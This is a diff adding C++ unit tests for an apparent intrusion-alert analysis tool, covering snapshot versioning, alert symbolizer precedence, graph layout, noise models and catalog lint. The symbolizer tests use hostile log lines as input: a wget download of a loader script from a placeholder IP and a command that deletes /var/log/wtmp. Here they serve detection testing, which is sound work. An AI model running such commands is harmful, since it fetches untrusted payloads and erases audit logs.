@@ -1,0 +1,162 @@
+// Additional property sweeps: VRT snapshot monotonicity, symbolizer
+// precedence, quadtree stress with coincident points, noise-model scaling,
+// and catalog structural lint.
+
+#include <gtest/gtest.h>
+
+#include <cmath>
+
+#include "util/stats.hpp"
+
+#include "alerts/symbolizer.hpp"
+#include "incidents/catalog.hpp"
+#include "incidents/noise.hpp"
+#include "viz/layout.hpp"
+#include "vrt/snapshot.hpp"
+
+namespace at {
+namespace {
+
+// --- VRT: archive consistency over time -----------------------------------
+
+class SnapshotDateSweep : public ::testing::TestWithParam<int> {};
+
+TEST_P(SnapshotDateSweep, VersionIntervalsAreConsistent) {
+  // For every archive package at this year: the served version's validity
+  // interval must actually contain the query date, and versions only move
+  // forward in time (no flapping back).
+  vrt::SnapshotArchive archive;
+  const int year = GetParam();
+  for (const auto& package : archive.packages()) {
+    std::string previous;
+    std::vector<std::string> seen_order;
+    for (unsigned month = 1; month <= 12; ++month) {
+      const util::CivilDate date{year, month, 15};
+      const auto version = archive.version_at(package, date);
+      if (!version) continue;
+      // Interval containment.
+      EXPECT_GE(util::days_from_civil(date), util::days_from_civil(version->available_from));
+      if (version->superseded_on) {
+        EXPECT_LT(util::days_from_civil(date),
+                  util::days_from_civil(*version->superseded_on));
+      }
+      // Forward-only: once a version is superseded it never reappears.
+      if (version->version != previous) {
+        EXPECT_EQ(std::count(seen_order.begin(), seen_order.end(), version->version), 0)
+            << package << " flapped back to " << version->version << " in " << year;
+        seen_order.push_back(version->version);
+        previous = version->version;
+      }
+    }
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(Years, SnapshotDateSweep,
+                         ::testing::Values(2006, 2010, 2014, 2017, 2021, 2024));
+
+// --- symbolizer precedence -------------------------------------------------
+
+TEST(SymbolizerPrecedence, FirstMatchWins) {
+  // "wget ... ldr.sh" matches both the .sh download rule and (potentially)
+  // generic rules; the specific source-download pattern must win, and the
+  // outcome must be stable across calls.
+  alerts::Symbolizer symbolizer;
+  const auto a = symbolizer.symbolize("12:00:00 [h] wget http://1.2.3.4/ldr.sh");
+  const auto b = symbolizer.symbolize("12:00:00 [h] wget http://1.2.3.4/ldr.sh");
+  ASSERT_TRUE(a.has_value());
+  ASSERT_TRUE(b.has_value());
+  EXPECT_EQ(a->alert.type, b->alert.type);
+  EXPECT_EQ(a->matched_pattern, b->matched_pattern);
+}
+
+TEST(SymbolizerPrecedence, CompositeLinePicksMostSpecific) {
+  // A line containing both a compile and a wipe indicator: one alert comes
+  // out (the first matching rule), never two.
+  alerts::Symbolizer symbolizer;
+  const auto result = symbolizer.symbolize("12:00:00 [h] gcc x.c && rm -f /var/log/wtmp");
+  ASSERT_TRUE(result.has_value());
+  // Wipe rules precede compile rules in the library (stealth is the more
+  // severe intent).
+  EXPECT_EQ(result->alert.type, alerts::AlertType::kLogTampering);
+}
+
+// --- quadtree stress ---------------------------------------------------------
+
+TEST(LayoutStress, ManyCoincidentPointsDoNotRecurseForever) {
+  // All nodes at identical positions after seeding would be pathological;
+  // force it by a single-seed graph with duplicate-position insertions —
+  // the quadtree's coincident-leaf aggregation must terminate.
+  viz::Graph graph;
+  for (std::uint32_t i = 0; i < 200; ++i) {
+    graph.node_for(net::Ipv4(10, 0, static_cast<std::uint8_t>(i >> 8),
+                             static_cast<std::uint8_t>(i & 0xff)),
+                   viz::NodeRole::kLegitimate);
+  }
+  // Zero iterations of movement still builds the tree each run; run one
+  // iteration over nodes whose random placement may collide at low area.
+  viz::LayoutOptions options;
+  options.iterations = 3;
+  options.area = 1.0;  // cram everything into a unit square
+  const auto stats = viz::run_layout(graph, options);
+  EXPECT_EQ(stats.iterations, 3u);
+  for (const auto& node : graph.nodes()) {
+    EXPECT_TRUE(std::isfinite(node.x));
+    EXPECT_TRUE(std::isfinite(node.y));
+  }
+}
+
+// --- noise model scaling ------------------------------------------------------
+
+class NoiseScaling : public ::testing::TestWithParam<double> {};
+
+TEST_P(NoiseScaling, MeanTracksConfiguredVolume) {
+  incidents::NoiseConfig config;
+  config.mean_daily = GetParam();
+  config.stddev_daily = GetParam() / 5.0;
+  incidents::DailyNoiseModel model(config);
+  util::OnlineStats stats;
+  for (const auto& day : model.sample_month(0, 200)) {
+    stats.add(static_cast<double>(day.total));
+  }
+  EXPECT_NEAR(stats.mean(), GetParam(), GetParam() * 0.06);
+}
+
+INSTANTIATE_TEST_SUITE_P(Volumes, NoiseScaling, ::testing::Values(10'000.0, 94'238.0, 500'000.0));
+
+// --- catalog structural lint ----------------------------------------------------
+
+TEST(CatalogLint, SequencesStartWithObservableEntryActivity) {
+  // Every attack starts with recon/access/execution activity — never with
+  // persistence or damage out of nowhere (the threat model's "system is
+  // assumed benign at the onset").
+  incidents::Catalog catalog;
+  for (const auto& seq : catalog.sequences()) {
+    const auto first = alerts::category_of(seq.alerts.front());
+    EXPECT_TRUE(first == alerts::Category::kRecon || first == alerts::Category::kAccess ||
+                first == alerts::Category::kExecution)
+        << seq.name;
+  }
+}
+
+TEST(CatalogLint, FamiliesAreNamedAndMostlyDistinct) {
+  incidents::Catalog catalog;
+  std::set<std::string> families;
+  for (const auto& seq : catalog.sequences()) {
+    EXPECT_FALSE(seq.family.empty()) << seq.name;
+    families.insert(seq.family);
+  }
+  EXPECT_EQ(families.size(), catalog.size());  // each sequence its own family
+}
+
+TEST(CatalogLint, MotifSequencesAreMajorityShort) {
+  // Insight 2: the bulk of recurring sequences sit in the 2-5 range.
+  incidents::Catalog catalog;
+  std::size_t short_seqs = 0;
+  for (const auto& seq : catalog.sequences()) {
+    if (seq.alerts.size() <= 5) ++short_seqs;
+  }
+  EXPECT_GT(short_seqs, catalog.size() * 3 / 4);
+}
+
+}  // namespace
+}  // namespace at
